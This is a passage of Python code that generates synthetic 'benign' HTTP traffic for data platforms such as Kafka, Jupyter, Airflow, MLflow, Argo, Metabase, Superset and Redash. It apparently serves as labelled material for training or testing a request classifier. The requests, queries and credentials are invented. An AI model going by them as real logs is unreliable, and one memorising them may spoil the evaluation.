        host = c.pick(H_KAFKA)
        m = i % 7
        if m <= 1:
            recs = []
            for _ in range(c.rng.randint(1, 4)):
                oid = f"ord_{c.rng.randint(10000, 99999)}"
                recs.append({"key": oid, "value": {"order_id": oid, "customer_id": c.rng.randint(1, 90000), "total": round(c.rng.uniform(5, 900), 2), "currency": c.pick(["EUR", "USD", "JPY"]),
                                                   "items": [{"sku": f"SKU-{c.rng.randint(1000, 9999)}", "qty": c.rng.randint(1, 4)}], "status": c.pick(["created", "paid", "shipped"]), "created_at": "2026-12-05T07:59:12Z",
                                                   "shipping": {"name": c.pick(["Zoë O'Brien", "José Álvarez", "山田 太郎", "Anna Müller"]), "city": c.pick(["Dublin", "Sevilla", "東京", "München"])}}})
            c.emit("benign", "kafka", "POST", f"/topics/{c.pick(['orders', 'orders.v2', 'payments-events'])}", hdrs(c, host, "python-requests/2.32.3", "application/vnd.kafka.json.v2+json", accept="application/vnd.kafka.v2+json"), jdump({"records": recs}, ascii_only=False))
        elif m == 2:
            ev = {"event": "page_view", "url": c.pick(["https://shop.example.com/products/4411?utm_source=newsletter&utm_medium=email", "https://shop.example.com/search?q=red+shoes&page=2", "https://shop.example.com/de/warenkorb"]),
                  "referrer": c.pick(["https://www.google.com/", "", "https://shop.example.com/"]), "session_id": c.hex(24), "user_agent": c.pick(UA_BROWSER), "ts": BASE * 1000}
            body = {"key": {"type": "STRING", "data": ev["session_id"]}, "value": {"type": "JSON", "data": ev}}
            c.emit("benign", "kafka", "POST", f"/v3/clusters/lkc-{c.tok(6, 'abcdefghijklmnopqrstuvwxyz0123456789')}/topics/clickstream/records", hdrs(c, host, "Go-http-client/1.1", "application/json"), jdump(body))
        elif m == 3:
            recs = [{"value": base64.b64encode(jdump({"sensor": f"s-{c.rng.randint(1, 99)}", "t": round(c.rng.uniform(10, 30), 1)}).encode()).decode()} for _ in range(3)]
            c.emit("benign", "kafka", "POST", "/topics/iot-raw", hdrs(c, host, "curl/8.5.0", "application/vnd.kafka.binary.v2+json"), jdump({"records": recs}))
        elif m == 4:
            schema = {"type": "record", "name": "Order", "namespace": "com.acme.events", "fields": [{"name": "order_id", "type": "string"}, {"name": "total", "type": "double"}, {"name": "note", "type": ["null", "string"], "default": None}]}
            if c.rng.random() < 0.5:
                c.emit("benign", "kafka", "POST", "/subjects/orders-value/versions", hdrs(c, c.pick(["schema-registry.internal.example.net:8081"]), "python-requests/2.32.3", "application/vnd.schemaregistry.v1+json"), jdump({"schema": jdump(schema)}))
            else:
                body = {"value_schema": jdump(schema), "records": [{"value": {"order_id": f"ord_{c.rng.randint(10000, 99999)}", "total": 42.5, "note": {"string": "Bitte an der Hintertür abstellen"}}}]}
                c.emit("benign", "kafka", "POST", "/topics/orders-avro", hdrs(c, host, "python-requests/2.32.3", "application/vnd.kafka.avro.v2+json"), jdump(body, ascii_only=False))
        elif m == 5:
            g = c.pick(["reporting", "search-indexer", "audit"])
            if c.rng.random() < 0.5:
                c.emit("benign", "kafka", "POST", f"/consumers/{g}", hdrs(c, host, "python-requests/2.32.3", "application/vnd.kafka.v2+json"), jdump({"name": f"{g}-1", "format": "json", "auto.offset.reset": "earliest", "auto.commit.enable": "false"}))
            else:
                c.emit("benign", "kafka", "POST", f"/consumers/{g}/instances/{g}-1/subscription", hdrs(c, host, "python-requests/2.32.3", "application/vnd.kafka.v2+json"), jdump({"topics": ["orders", "payments-events"]}))
        else:
            c.emit("benign", "kafka", "GET", c.pick(["/consumers/reporting/instances/reporting-1/records?timeout=3000&max_bytes=300000", "/topics", "/v3/clusters", "/topics/orders/partitions/0/offsets"]), hdrs(c, host, "python-requests/2.32.3", accept="application/vnd.kafka.json.v2+json"))


PY_CELLS = [
    'import pandas as pd\nimport numpy as np\nimport matplotlib.pyplot as plt\n\npd.set_option("display.max_columns", 50)',
    'df = pd.read_parquet("s3://acme-analytics/events/dt=2026-12-04/")\ndf.head()',
    'daily = df.groupby(df["ts"].dt.date)["revenue"].sum()\ndaily.plot(figsize=(12, 4), title="Revenue per day")\nplt.tight_layout()\nplt.show()',
    'from sklearn.model_selection import train_test_split\nfrom sklearn.ensemble import GradientBoostingClassifier\n\nX_train, X_test, y_train, y_test = train_test_split(X, y, test_size=0.2, random_state=42, stratify=y)\nclf = GradientBoostingClassifier(n_estimators=300, max_depth=3).fit(X_train, y_train)',
    'df.query("country == \'FR\' and revenue > 1000").sort_values("revenue", ascending=False).head(20)',
    'import mlflow\n\nwith mlflow.start_run(run_name="gbm-baseline"):\n    mlflow.log_params(clf.get_params())\n    mlflow.log_metric("auc", roc_auc_score(y_test, clf.predict_proba(X_test)[:, 1]))',
    'def load(path: str) -> pd.DataFrame:\n    """Read one day of events (JSON lines)."""\n    return pd.read_json(path, lines=True, dtype={"user_id": "Int64"})',
    'churn = (df.assign(month=df["ts"].dt.to_period("M"))\n          .pivot_table(index="cohort", columns="month", values="user_id", aggfunc="nunique"))\nchurn.div(churn.iloc[:, 0], axis=0).style.format("{:.1%}")',
    'import seaborn as sns\nsns.histplot(data=df, x="latency_ms", hue="region", log_scale=True, element="step")',
    'mask = (df["status"] >= 500) & (df["path"].str.startswith("/api/"))\nerrors = df.loc[mask, ["ts", "path", "status", "trace_id"]]\nlen(errors), errors["path"].value_counts().head(10)',
    'df["amount_eur"] = np.where(df["currency"] == "USD", df["amount"] * 0.94, df["amount"])\ndf.describe(percentiles=[.5, .9, .99])',
]
MD_CELLS = [
    "# Churn analysis — November 2026\n\nData: `events` table, cohorts by first order month. See [the wiki](https://wiki.example.com/analytics/churn).",
    "## Findings\n\n* Churn is **higher** for customers acquired via paid social (≈ 18 % vs 11 %).\n* p95 checkout latency > 800 ms correlates with abandoned carts.",
    "### Next steps\n1. Re-run with December data\n2. Share with @payments-team\n\n> Note: revenue in EUR, USD converted at 0.94.",
]
HTML_OUT = '<div>\n<style scoped>\n    .dataframe tbody tr th:only-of-type {\n        vertical-align: middle;\n    }\n\n    .dataframe thead th {\n        text-align: right;\n    }\n</style>\n<table border="1" class="dataframe">\n  <thead>\n    <tr style="text-align: right;">\n      <th></th>\n      <th>country</th>\n      <th>revenue</th>\n    </tr>\n  </thead>\n  <tbody>\n    <tr>\n      <th>0</th>\n      <td>FR</td>\n      <td>18231.50</td>\n    </tr>\n    <tr>\n      <th>1</th>\n      <td>DE</td>\n      <td>15710.00</td>\n    </tr>\n  </tbody>\n</table>\n</div>'


def nb_cell(c, src, kind="code", n=None, html=False):
    lines = src.split("\n")
    source = [l + "\n" for l in lines[:-1]] + [lines[-1]]
    if kind == "markdown":
        return {"cell_type": "markdown", "id": c.hex(8), "metadata": {}, "source": source}
    outs = []
    if html:
        outs.append({"data": {"text/html": HTML_OUT.split("\n"), "text/plain": ["  country   revenue\n", "0      FR  18231.50\n", "1      DE  15710.00"]}, "execution_count": n, "metadata": {}, "output_type": "execute_result"})
    elif c.rng.random() < 0.3:
        outs.append({"name": "stdout", "output_type": "stream", "text": [f"{c.rng.randint(1000, 900000)} rows, {c.rng.randint(5, 40)} columns\n"]})
    return {"cell_type": "code", "execution_count": n, "id": c.hex(8), "metadata": {"tags": []} if c.rng.random() < 0.3 else {}, "outputs": outs, "source": source}


def notebook(c, cells):
    return {"cells": cells, "metadata": {"kernelspec": {"display_name": "Python 3 (ipykernel)", "language": "python", "name": "python3"},
                                         "language_info": {"codemirror_mode": {"name": "ipython", "version": 3}, "file_extension": ".py", "mimetype": "text/x-python", "name": "python", "nbconvert_exporter": "python", "pygments_lexer": "ipython3", "version": "3.11.9"}},
            "nbformat": 4, "nbformat_minor": 5}


def jupyter_save(c, sub, cells, name=None):
    host = c.pick(H_JUPYTER)
    user = c.pick(USERS)
    prefix = f"/user/{user}" if "hub" in host else ""
    name = name or c.pick(["churn-analysis.ipynb", "Untitled1.ipynb", "reports/weekly%20revenue.ipynb", "exploration/latency-2026-12.ipynb", "model/train_gbm.ipynb"])
    body = {"type": "notebook", "format": "json", "content": notebook(c, cells)}
    c.emit("benign", sub, "PUT", f"{prefix}/api/contents/{name}", hdrs(c, host, ctype="application/json", extra=jup_extra(c)), jdump(body, ascii_only=False))


def b_jupyter(c, n):
    for i in range(n):
        m = i % 6
        if m <= 2:
            cells, k = [], 1
            if c.rng.random() < 0.7:
                cells.append(nb_cell(c, c.pick(MD_CELLS), "markdown"))
            for src in c.rng.sample(PY_CELLS, c.rng.randint(2, 5)):
                cells.append(nb_cell(c, src, n=k, html=("head()" in src or "query(" in src) and c.rng.random() < 0.7))
                k += 1
            jupyter_save(c, "jupyter", cells)
        else:
            host = c.pick(H_JUPYTER)
            prefix = f"/user/{c.pick(USERS)}" if "hub" in host else ""
            ex = jup_extra(c)
            if m == 3:
                body = {"path": "churn-analysis.ipynb", "type": "notebook", "name": "", "kernel": {"id": None, "name": "python3"}}
                c.emit("benign", "jupyter", "POST", f"{prefix}/api/sessions", hdrs(c, host, ctype="application/json", extra=ex), jdump(body))
            elif m == 4:
                c.emit("benign", "jupyter", "GET", c.pick([f"{prefix}/api/contents/reports?content=1&hash=0&{BASE * 1000}", f"{prefix}/api/kernels?{BASE * 1000}", f"{prefix}/api/contents/churn-analysis.ipynb/checkpoints",
                                                          f"{prefix}/lab/api/settings/@jupyterlab/notebook-extension:tracker", f"{prefix}/api/kernelspecs"]), hdrs(c, host, extra=ex))
            else:
                c.emit("benign", "jupyter", "POST", c.pick([f"{prefix}/api/kernels/{c.uuid()}/interrupt", f"{prefix}/api/contents/churn-analysis.ipynb/checkpoints", f"{prefix}/api/kernels/{c.uuid()}/restart"]), hdrs(c, host, ctype="application/json", extra=ex), "")


def b_airflow(c, n):
    dags = ["etl_daily", "orders_to_warehouse", "ml_feature_refresh", "export_partner_reports", "dbt_run_hourly", "s3_cleanup"]
    for i in range(n):
        host = c.pick(H_AIRFLOW)
        ex = af_extra(c)
        dag = c.pick(dags)
        m = i % 8
        if m <= 2:
            conf = c.pick([{"date": "2026-12-04", "tables": ["orders", "customers"], "full_refresh": False},
                           {"start": "2026-11-01", "end": "2026-11-30", "partner": "acme-logistics", "format": "csv"},
                           {"model": "churn_gbm", "features": ["recency", "frequency", "monetary"], "notify": ["data-team@example.com"]},
                           {"dbt_select": "tag:hourly+ state:modified", "target": "prod", "threads": 8},
                           {"bucket": "acme-raw", "prefix": "exports/2026/11/", "older_than_days": 30, "dry_run": True}])
            body = {"dag_run_id": f"manual__2026-12-05T08:{c.rng.randint(0, 59):02d}:{c.rng.randint(0, 59):02d}+00:00", "logical_date": "2026-12-05T08:00:00Z", "conf": conf,
                    "note": c.pick([None, "Re-run after upstream fix (INC-4821)", "Backfill für November"])}
            c.emit("benign", "airflow", "POST", f"/api/v1/dags/{dag}/dagRuns", hdrs(c, host, c.pick(["apache-airflow-client/2.10.0/python"] + UA_BROWSER), "application/json", extra=ex), jdump(body, ascii_only=False))
        elif m == 3:
            c.emit("benign", "airflow", "PATCH", f"/api/v1/dags/{dag}?update_mask=is_paused", hdrs(c, host, ctype="application/json", extra=ex), jdump({"is_paused": c.pick([True, False])}))
        elif m == 4:
            c.emit("benign", "airflow", "GET", c.pick([f"/api/v1/dags?limit=100&offset=0&only_active=true&dag_id_pattern={c.pick(['etl', 'export'])}&order_by=-next_dagrun",
                                                      f"/api/v1/dags/{dag}/dagRuns?limit=25&order_by=-execution_date&state=failed",
                                                      f"/api/v1/dags/{dag}/dagRuns/scheduled__2026-12-04T00:00:00+00:00/taskInstances/extract/logs/1?full_content=true",
                                                      f"/api/v1/importErrors?limit=50", f"/grid?dag_id={dag}&base_date=2026-12-05T08%3A00%3A00%2B00%3A00&num_runs=25"]), hdrs(c, host, extra=ex))
        elif m == 5:
            body = c.pick([{"key": "s3_export_bucket", "value": "acme-data-lake", "description": "Where partner exports land"},
                           {"key": "warehouse_tables", "value": jdump(["orders", "customers", "payments"]), "description": None},
                           {"key": "slack_channel", "value": "#data-alerts"}])
            c.emit("benign", "airflow", "POST", "/api/v1/variables", hdrs(c, host, ctype="application/json", extra=ex), jdump(body))
        elif m == 6:
            body = {"connection_id": c.pick(["warehouse", "partner_sftp", "s3_default"]), "conn_type": c.pick(["postgres", "sftp", "aws"]), "host": c.pick(["warehouse.internal.example.net", "sftp.partner.example"]),
                    "schema": "analytics", "login": "airflow", "password": c.tok(20), "port": c.pick([5432, 22]), "extra": jdump({"sslmode": "require", "keepalives_idle": 30})}
            c.emit("benign", "airflow", "POST", "/api/v1/connections", hdrs(c, host, ctype="application/json", extra=ex), jdump(body))
        else:
            body = {"dag_ids": [dag], "states": ["failed"], "page_limit": 100, "execution_date_gte": "2026-12-01T00:00:00Z"}
            c.emit("benign", "airflow", "POST", "/api/v1/dags/~/dagRuns/list", hdrs(c, host, ctype="application/json", extra=ex), jdump(body))


def b_mlflow(c, n):
    for i in range(n):
        host = c.pick(H_MLFLOW)
        ua = c.pick(["mlflow-python-client/2.18.0", "python-requests/2.32.3"] + UA_BROWSER[:2])
        pre = c.pick(["/api/2.0/mlflow", "/ajax-api/2.0/mlflow"])
        run = c.hex(32)
        m = i % 8
        if m == 0:
            body = {"experiment_id": str(c.rng.randint(1, 40)), "run_name": c.pick(["xgb-depth6", "gbm-baseline", "bert-finetune-lr3e-5", "prophet-weekly"]), "start_time": BASE * 1000,
                    "tags": [{"key": "mlflow.source.name", "value": "train.py"}, {"key": "mlflow.user", "value": c.pick(USERS)}, {"key": "mlflow.source.git.commit", "value": c.hex(40)}]}
            c.emit("benign", "mlflow", "POST", pre + "/runs/create", hdrs(c, host, ua, "application/json"), jdump(body))
        elif m <= 2:
            body = {"run_id": run, "metrics": [{"key": k, "value": round(c.rng.uniform(0, 1), 6), "timestamp": BASE * 1000 + s, "step": s} for s in range(c.rng.randint(1, 4)) for k in c.rng.sample(["rmse", "auc", "val_loss", "f1"], 2)],
                    "params": [{"key": "max_depth", "value": str(c.rng.randint(3, 10))}, {"key": "learning_rate", "value": c.pick(["0.05", "3e-5", "0.1"])}, {"key": "features", "value": "['recency', 'frequency', 'monetary']"}],
                    "tags": [{"key": "mlflow.note.content", "value": "Baseline with **class weights**; see PR #412"}]}
            c.emit("benign", "mlflow", "POST", pre + "/runs/log-batch", hdrs(c, host, ua, "application/json"), jdump(body))
        elif m == 3:
            body = {"experiment_ids": [str(c.rng.randint(1, 40))], "filter": c.pick(["metrics.rmse < 0.5 and params.model_type = 'xgboost' and attributes.status = 'FINISHED'",
                                                                                     "tags.\"mlflow.runName\" LIKE 'prod%'", "attributes.start_time > 1796000000000", "params.max_depth IN ('6', '8')", ""]),
                    "run_view_type": "ACTIVE_ONLY", "max_results": 50, "order_by": ["metrics.rmse ASC", "attributes.start_time DESC"]}
            c.emit("benign", "mlflow", "POST", pre + "/runs/search", hdrs(c, host, ua, "application/json"), jdump(body))
        elif m == 4:
            c.emit("benign", "mlflow", "POST", pre + "/experiments/search", hdrs(c, host, ua, "application/json"), jdump({"max_results": 100, "filter": c.pick(["name LIKE 'fraud%'", "tags.team = 'risk'", ""]), "order_by": ["last_update_time DESC"]}))
        elif m == 5:
            name = c.pick(["churn-gbm", "fraud-detector", "demand-forecast"])
            if c.rng.random() < 0.5:
                c.emit("benign", "mlflow", "POST", pre + "/model-versions/create", hdrs(c, host, ua, "application/json"), jdump({"name": name, "source": f"s3://acme-mlflow-artifacts/{c.rng.randint(1, 40)}/{run}/artifacts/model", "run_id": run}))
            else:
                c.emit("benign", "mlflow", "POST", pre + "/registered-models/create", hdrs(c, host, ua, "application/json"), jdump({"name": name, "description": "Gradient-boosted model; owner: risk team", "tags": [{"key": "team", "value": "risk"}]}))
        elif m == 6:
            c.emit("benign", "mlflow", "GET", c.pick([f"{pre}/metrics/get-history?run_id={run}&metric_key=val_loss", f"/get-artifact?path=model%2FMLmodel&run_uuid={run}", f"{pre}/artifacts/list?run_id={run}&path=model",
                                                     f"/model-versions/get-artifact?path=requirements.txt&name=churn-gbm&version=3", f"{pre}/runs/get?run_id={run}"]), hdrs(c, host, ua, accept="application/json"))
        else:
            c.emit("benign", "mlflow", "POST", pre + "/experiments/create", hdrs(c, host, ua, "application/json"), jdump({"name": c.pick(["/Users/anna/fraud-v3", "demand-forecast-2027", "churn (EU)"]), "artifact_location": c.pick(["s3://acme-mlflow-artifacts/", "mlflow-artifacts:/", None])}))


def b_argo(c, n):
    for i in range(n):
        host = c.pick(H_ARGO)
        ex = [["Accept", "application/json"], ["Authorization", f"Bearer {c.tok(36)}.{c.tok(120)}.{c.tok(43)}"]]
        m = i % 5
        if m <= 1:
            img = c.pick(["ghcr.io/acme/etl:1.8.2", "ghcr.io/acme/trainer:2026.12.1", "python:3.12-slim"])
            wf = {"metadata": {"generateName": c.pick(["etl-", "train-", "report-"]), "namespace": "argo", "labels": {"workflows.argoproj.io/creator": c.pick(USERS)}},
                  "spec": {"entrypoint": "main", "serviceAccountName": "workflow-runner", "arguments": {"parameters": [{"name": "date", "value": "2026-12-04"}, {"name": "tables", "value": "orders,customers"}]},
                           "templates": [{"name": "main", "dag": {"tasks": [{"name": "extract", "template": "run", "arguments": {"parameters": [{"name": "step", "value": "extract"}]}},
                                                                           {"name": "load", "template": "run", "dependencies": ["extract"], "arguments": {"parameters": [{"name": "step", "value": "load"}]}}]}},
                                         {"name": "run", "inputs": {"parameters": [{"name": "step"}]}, "container": {"image": img, "command": ["python", "-m", "etl.run"],
                                                                                                                       "args": ["--step", "{{inputs.parameters.step}}", "--date", "{{workflow.parameters.date}}", "--tables", "{{workflow.parameters.tables}}"],
                                                                                                                       "resources": {"requests": {"cpu": "500m", "memory": "1Gi"}}}}],
                           "ttlStrategy": {"secondsAfterCompletion": 86400}}}
            c.emit("benign", "argo", "POST", "/api/v1/workflows/argo", hdrs(c, host, ctype="application/json", extra=ex), jdump({"workflow": wf}))
        elif m == 2:
            body = {"resourceKind": "WorkflowTemplate", "resourceName": c.pick(["nightly-report", "dbt-build", "retrain-churn"]), "submitOptions": {"parameters": ["date=2026-12-04", "env=prod"], "labels": "submitted-from-ui=true"}}
            c.emit("benign", "argo", "POST", "/api/v1/workflows/argo/submit", hdrs(c, host, ctype="application/json", extra=ex), jdump(body))
        elif m == 3:
            c.emit("benign", "argo", "GET", "/api/v1/workflows/argo?" + qs([("listOptions.labelSelector", c.pick(["workflows.argoproj.io/completed!=true", "workflows.argoproj.io/phase in (Failed,Error)", "app=etl,env=prod"])),
                                                                             ("listOptions.limit", 50), ("fields", "metadata,items.metadata.name,items.status.phase,items.status.startedAt,items.status.finishedAt")]), hdrs(c, host, extra=ex))
        else:
            c.emit("benign", "argo", "GET", f"/api/v1/workflows/argo/etl-{c.tok(5, 'abcdefghijklmnopqrstuvwxyz0123456789')}/log?logOptions.container=main&grep=&logOptions.follow=true&podName=etl-{c.tok(5)}-run-{c.rng.randint(10 ** 9, 4 * 10 ** 9)}", hdrs(c, host, extra=ex))


def b_bi(c, n):
    for i in range(n):
        m = i % 9
        if m <= 1:
            host = c.pick(H_METABASE)
            body = c.pick([
                {"database": c.rng.randint(1, 5), "type": "query", "query": {"source-table": c.rng.randint(2, 40), "aggregation": [["count"], ["sum", ["field", 41, None]]], "breakout": [["field", 12, {"temporal-unit": "week"}]],
                                                                           "filter": ["and", ["=", ["field", 17, None], "Widget", "Gizmo"], ["time-interval", ["field", 12, None], -30, "day"]]}, "parameters": []},
                {"database": 2, "type": "query", "query": {"source-table": 7, "filter": ["contains", ["field", 55, None], "o'neil", {"case-sensitive": False}], "order-by": [["desc", ["field", 58, None]]], "limit": 200}, "parameters": []},
            ])
            c.emit("benign", "bi", "POST", "/api/dataset", hdrs(c, host, ctype="application/json", extra=mb_extra(c)), jdump(body))
        elif m == 2:
            host = c.pick(H_METABASE)
            body = {"ignore_cache": False, "collection_preview": False, "parameters": [{"type": "category", "value": [c.pick(["Widget", "Gadget", "Doohickey"])], "target": ["dimension", ["template-tag", "category"]], "id": c.hex(8)},
                                                                                       {"type": "date/range", "value": "2026-11-01~2026-11-30", "target": ["dimension", ["template-tag", "created"]], "id": c.hex(8)}]}
            c.emit("benign", "bi", "POST", c.pick([f"/api/card/{c.rng.randint(1, 300)}/query", f"/api/dashboard/{c.rng.randint(1, 40)}/dashcard/{c.rng.randint(1, 200)}/card/{c.rng.randint(1, 300)}/query"]), hdrs(c, host, ctype="application/json", extra=mb_extra(c)), jdump(body))
        elif m == 3:
            host = c.pick(H_METABASE)
            c.emit("benign", "bi", "GET", c.pick(["/api/search?q=revenue&models=card&models=dashboard", "/api/collection/root/items?models=dashboard&models=card&limit=50", "/api/card?f=all", "/api/user/current", "/api/session/properties"]), hdrs(c, host, extra=mb_extra(c)))
        elif m <= 5:
            host = c.pick(H_SUPERSET)
            body = {"datasource": {"id": c.rng.randint(1, 90), "type": "table"}, "force": False,
                    "queries": [{"filters": [{"col": "country", "op": "IN", "val": c.rng.sample(["FR", "DE", "ES", "IT", "NL"], 2)}, {"col": "order_date", "op": "TEMPORAL_RANGE", "val": "Last month"}],
                                 "extras": {"having": "", "where": "", "time_grain_sqla": "P1W"}, "applied_time_extras": {}, "columns": [{"timeGrain": "P1W", "columnType": "BASE_AXIS", "sqlExpression": "order_date", "label": "order_date", "expressionType": "SQL"}],
                                 "metrics": [{"expressionType": "SIMPLE", "column": {"column_name": "revenue", "type": "DOUBLE PRECISION"}, "aggregate": "SUM", "label": "SUM(revenue)"}, "count"],
                                 "orderby": [[{"expressionType": "SIMPLE", "column": {"column_name": "revenue"}, "aggregate": "SUM", "label": "SUM(revenue)"}, False]], "row_limit": 10000, "series_limit": 0, "url_params": {}, "custom_params": {}, "custom_form_data": {}}],
                    "form_data": {"viz_type": "echarts_timeseries_line", "slice_id": c.rng.randint(1, 400)}, "result_format": "json", "result_type": "full"}
            c.emit("benign", "bi", "POST", f"/api/v1/chart/data?form_data=%7B%22slice_id%22%3A{body['form_data']['slice_id']}%7D&dashboard_id={c.rng.randint(1, 40)}", hdrs(c, host, ctype="application/json", extra=ss_extra(c)), jdump(body))
        elif m == 6:
            host = c.pick(H_SUPERSET)
            q = c.pick(["(filters:!((col:dashboard_title,opr:title_or_slug,value:sales)),order_column:changed_on_delta_humanized,order_direction:desc,page:0,page_size:20)",
                        "(columns:!(id,slice_name,viz_type),filters:!((col:viz_type,opr:eq,value:echarts_timeseries_line)),page:0,page_size:25)",
                        "(filters:!((col:table_name,opr:ct,value:orders)),order_column:changed_on_delta_humanized,order_direction:desc,page:0,page_size:25)"])
            c.emit("benign", "bi", "GET", c.pick(["/api/v1/dashboard/?q=", "/api/v1/chart/?q=", "/api/v1/dataset/?q="]) + enc(q, safe="(),:!'"), hdrs(c, host, extra=ss_extra(c)))
        elif m == 7:
            host = c.pick(H_REDASH)
            body = {"id": c.rng.randint(1, 900), "parameters": {"country": c.pick(["FR", "DE", "Côte d'Ivoire"]), "date_range": {"start": "2026-11-01", "end": "2026-11-30"}, "limit": 100}, "max_age": c.pick([0, 1800])}
            c.emit("benign", "bi", "POST", f"/api/queries/{body['id']}/results", hdrs(c, host, ctype="application/json", extra=[["Authorization", f"Key {c.tok(40)}"]]), jdump(body, ascii_only=False))
        else:
            host = c.pick(H_REDASH)
            c.emit("benign", "bi", "GET", c.pick(["/api/dashboards/sales-overview", "/api/queries/search?q=churn&page=1&page_size=20", f"/api/jobs/{c.uuid()}", "/api/queries?page=1&page_size=20&order=-created_at"]), hdrs(c, host, extra=[["Authorization", f"Key {c.tok(40)}"]]))


NATIVE_SQL = [
    "SELECT date_trunc('week', created_at) AS week, count(*) AS orders, sum(total) AS revenue\nFROM orders\nWHERE status = 'paid' AND created_at >= now() - interval '90 days'\nGROUP BY 1\nORDER BY 1",
    "SELECT c.country, count(DISTINCT o.customer_id) AS buyers\nFROM orders o\nJOIN customers c ON c.id = o.customer_id\nWHERE o.created_at BETWEEN '2026-11-01' AND '2026-11-30'\nGROUP BY c.country\nORDER BY buyers DESC\nLIMIT 20;",
    "SELECT 'web' AS channel, count(*) FROM orders WHERE source = 'web'\nUNION ALL\nSELECT 'app' AS channel, count(*) FROM orders WHERE source IN ('ios', 'android')\nUNION ALL\nSELECT 'pos', count(*) FROM store_sales",
    "WITH first_orders AS (\n  SELECT customer_id, min(created_at) AS first_at FROM orders GROUP BY customer_id\n)\nSELECT date_trunc('month', first_at) AS cohort, count(*) FROM first_orders GROUP BY 1 ORDER BY 1",
    "SELECT product_id, name, stock\nFROM products\nWHERE stock < 10 AND discontinued = false\nORDER BY stock ASC",
    "select u.email, u.created_at, coalesce(sum(p.amount), 0) as ltv\nfrom users u left join payments p on p.user_id = u.id\nwhere u.email not like '%@example.com'\ngroup by 1, 2\nhaving coalesce(sum(p.amount), 0) > 1000\norder by ltv desc",
    "SELECT status, count(*) FROM orders WHERE created_at > current_date - 7 GROUP BY status\nUNION\nSELECT 'total', count(*) FROM orders WHERE created_at > current_date - 7",
    "SELECT table_name, pg_size_pretty(pg_total_relation_size(quote_ident(table_name))) AS size\nFROM information_schema.tables\nWHERE table_schema = 'public'\nORDER BY pg_total_relation_size(quote_ident(table_name)) DESC\nLIMIT 10;",
    "SELECT DATE(created_at) AS day, SUM(CASE WHEN refunded THEN 1 ELSE 0 END) / COUNT(*) AS refund_rate\nFROM orders\nGROUP BY DATE(created_at)\nORDER BY day DESC LIMIT 30",
]

CH_SQL = [
    "SELECT toStartOfMinute(timestamp) AS t, count() AS c FROM logs WHERE service = '<<app>>' AND level = 'error' AND timestamp > now() - INTERVAL 1 HOUR GROUP BY t ORDER BY t",
    "SELECT quantile(0.99)(duration_ms) AS p99, quantile(0.5)(duration_ms) AS p50 FROM spans WHERE service_name = '<<app>>' AND timestamp >= today() FORMAT JSON",
    "SELECT name, total_rows, formatReadableSize(total_bytes) AS size FROM system.tables WHERE database = currentDatabase() ORDER BY total_bytes DESC LIMIT 20",
    "SELECT path, count() AS hits, countIf(status >= 500) AS errors FROM nginx_access WHERE date = yesterday() GROUP BY path ORDER BY hits DESC LIMIT 10",
    "SELECT uniqExact(user_id) FROM events WHERE event = 'signup' AND toDate(ts) BETWEEN '2026-11-01' AND '2026-11-30'",
    "SELECT 'errors' AS kind, count() FROM logs WHERE level = 'error' UNION ALL SELECT 'warnings', count() FROM logs WHERE level = 'warn'",
    "SELECT query_duration_ms, read_rows, substring(query, 1, 120) AS q FROM system.query_log WHERE type = 'QueryFinish' AND event_date = today() ORDER BY query_duration_ms DESC LIMIT 5",
    "SELECT arrayJoin(tags) AS tag, count() FROM issues GROUP BY tag ORDER BY count() DESC LIMIT 15 SETTINGS max_threads = 4",
]

INFLUXQL = [
    'SELECT mean("usage_idle") FROM "cpu" WHERE ("host" =~ /^web-0[1-4]$/) AND time >= now() - 1h GROUP BY time(1m), "host" fill(null)',
    'SELECT max("used_percent") FROM "telegraf"."autogen"."mem" WHERE time > now() - 24h GROUP BY time(10m)',
    'SELECT derivative(mean("bytes_recv"), 1s) FROM "net" WHERE "interface" = \'eth0\' AND time > now() - 6h GROUP BY time(30s)',
    'SELECT count("duration_ms") FROM "http_requests" WHERE "status" = \'500\' AND time > now() - 15m',
]

SHELL_CELLS = [
    'import subprocess\nout = subprocess.run(["gsutil", "ls", "gs://acme-raw/2026/12/"], capture_output=True, text=True)\nprint(out.stdout)',
    'import os\nos.system("unzip -o data/export.zip -d data/")\nsorted(os.listdir("data"))',
    '!pip install -q lightgbm==4.5.0 shap',
    '!wget -q https://data.example.org/open/population-2026.csv -O /tmp/population.csv && head -n 3 /tmp/population.csv',
    '%%bash\nfor f in data/*.csv; do\n  echo "$f: $(wc -l < "$f") lines"\ndone',
    '%%sql\nSELECT customer_id, SUM(amount) AS total\nFROM payments\nWHERE paid_at >= \'2026-11-01\'\nGROUP BY customer_id\nORDER BY total DESC\nLIMIT 20',
    'orders = pd.read_sql("SELECT * FROM orders WHERE created_at > now() - interval \'7 days\'", engine)\norders.shape',
    'subprocess.check_call(["dbt", "run", "--select", "tag:daily", "--target", "dev"])',
]


def b_dev(c, n):
    for i in range(n):
        m = i % 13
        if m == 0:
            host = c.pick(H_METABASE)
            sql = c.pick(NATIVE_SQL)
            tt = {}
            if c.rng.random() < 0.4:
                sql = sql.replace("ORDER BY", "[[AND category = {{category}}]]\nORDER BY", 1) if "WHERE" in sql else sql
                tt = {"category": {"id": c.uuid(), "name": "category", "display-name": "Category", "type": "text"}}
            body = {"database": c.rng.randint(1, 5), "type": "native", "native": {"query": sql, "template-tags": tt}, "parameters": []}
            c.emit("benign", "dev-content", "POST", "/api/dataset", hdrs(c, host, ctype="application/json", extra=mb_extra(c)), jdump(body))
        elif m == 1:
            host = c.pick(H_SUPERSET)
            sql = c.pick(NATIVE_SQL + ["SELECT * FROM orders WHERE ds = '{{ ds }}' AND country IN {{ filter_values('country')|where_in }}",
                                       "SELECT '{{ current_username() }}' AS who, count(*) FROM events WHERE tenant = '{{ url_param('tenant') }}'"])
            body = {"client_id": c.tok(10), "database_id": c.rng.randint(1, 6), "json": True, "runAsync": c.pick([False, True]), "schema": c.pick(["public", "analytics"]), "sql": sql,
                    "sql_editor_id": str(c.rng.randint(1, 30)), "tab": c.pick(["Untitled Query 2", "revenue check", "cohorts"]), "tmp_table_name": "", "select_as_cta": False, "ctas_method": "TABLE", "queryLimit": 1000, "expand_data": True}
            c.emit("benign", "dev-content", "POST", "/api/v1/sqllab/execute/", hdrs(c, host, ctype="application/json", extra=ss_extra(c)), jdump(body))
        elif m == 2:
            host = c.pick(H_REDASH)
            body = {"data_source_id": c.rng.randint(1, 6), "parameters": {}, "query": c.pick(NATIVE_SQL), "max_age": 0, "apply_auto_limit": True}
            c.emit("benign", "dev-content", "POST", "/api/query_results", hdrs(c, host, ctype="application/json", extra=[["Authorization", f"Key {c.tok(40)}"]]), jdump(body))
        elif m in (3, 4):
            host = c.pick(H_CH)
